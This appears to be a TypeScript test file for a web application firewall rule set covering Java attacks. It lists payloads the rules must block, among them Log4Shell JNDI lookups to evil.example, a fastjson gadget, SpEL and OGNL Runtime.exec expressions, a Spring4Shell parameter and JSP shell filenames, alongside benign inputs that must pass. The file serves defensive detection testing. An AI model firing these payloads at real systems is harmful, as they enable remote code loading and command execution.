import test from "ava";
import { appRequests, checkRules, placeCases, ruleFile, testBlocks, testPasses, type AppPlace } from "./support.js";

const file = ruleFile("135-java.yaml", "/app");
const request = appRequests({ encoding: "latin1", xml: "attribute" });

// [place, payload, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [AppPlace, string, number])[] = [
  ["ua", "${jndi:ldap://evil.example/a}", 1],
  ["header", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", 1],
  ["query", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", 1],
  ["json", "$\\u007Bjndi:dns://evil.example/a}", 1],
  ["form", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", 1],
  ["json", "$&lbrace;jndi:ldap://evil.example/a}", 1],
  ["cookie", "${env:NOPE:-j}ndi", 1],
  ["path", "/${jndi:ldap://evil.example/x}", 1],
  ["plain", "user=${jndi:ldap://evil.example/a}", 1],
  ["xml", "${jndi:ldap://evil.example/x}", 1],
  ["query", "java.lang.Runtime", 1],
  ["jsonraw", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/x\",\"autoCommit\":true}", 1],
  ["form", "T(java.lang.Runtime).getRuntime().exec('id')", 1],
  ["query", "Class.forName('java.lang.Runtime')", 1],
  ["json", "#{T(java.lang.Runtime).getRuntime().exec('id')}", 1],
  ["ctype", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}", 1],
  ["rawquery", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 1],
  ["cookie", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 1],
  ["plain", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", 1],
  ["plain", "test=java.lang.ProcessBuilder", 1],
  ["query", "aced00057372", 1],
  ["json", "ProcessBuilder.evil.InvokerTransformer", 1],
  ["query", "runtime.forclosure", 1],
  ["upload", "shell.jsp", 1],
  ["x-filename", "cmd.jspx. ", 1],
  ["query", "payload:rO0ABXNyAB", 2],
  ["form", "java evil runtime", 2],
  ["query", "cnVudGltZQ", 3],
  ["query", "${anything}", 4],
];

testBlocks(file, placeCases(ATTACKS, request));

// Benign values that must pass at PL1; those marked true must also pass at PL2.
const BENIGN: readonly (readonly [AppPlace, string, boolean])[] = [
  ["ua", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15", true],
  ["ua", "Java/1.8.0_292", true],
  ["query", "Looking for a Java developer", true],
  ["form", "I love JavaScript and TypeScript", true],
  ["json", "runtime: 2h 15m", true],
  ["query", "price=${price}", true],
  ["form", "Total: $ {amount}", true],
  ["query", "com.example.app", true],
  ["json", "org.example.service", true],
  ["cookie", "ABCDEF0123456789", true],
  ["header", "1b4e28ba-2fa1-11d2-883f-0016d3cca427", true],
  ["query", "java.util.List", true],
  ["form", "My notes about the ProcessBuilder API", true],
  ["upload", "page.jsp.txt", true],
  ["x-filename", "notes.html", true],
  ["json", "Hello {{name}}", true],
  ["query", "rO0", true],
  ["form", "%{count} items", true],
  ["json", "a@b.com", true],
  ["rawquery", "sort=runtime&lang=java", true],
  ["plain", "Hello, this is a plain text note about the forclosure of my house.", true],
  ["ctype", "application/json; charset=utf-8", true],
  ["path", "/api/v1/orders/123", true],
  ["xml", "Item #42 @ 5 EUR", true],
];

testPasses(file, placeCases(BENIGN, request));

test("a Log4Shell payload in any header is blocked and reported with the header's name", (t) => {
  const v = file.verdict(1, { method: "GET", uri: "/", protocol: "HTTP/1.1", headers: [["host", "x"], ["x-forwarded-for", "${jndi:ldap://evil.example/a}"]] }, "/");
  t.is(v.action, "block");
  t.true(v.matches.some((m) => m.id === 135100 && m.target === "headers:x-forwarded-for"));
});

test("every rule is in the file's id range and carries the attack-java and owasp-a03 tags", (t) => {
  t.true(file.rules.length >= 10);
  checkRules(t, file, ["attack-java", "owasp-a03"]);
});
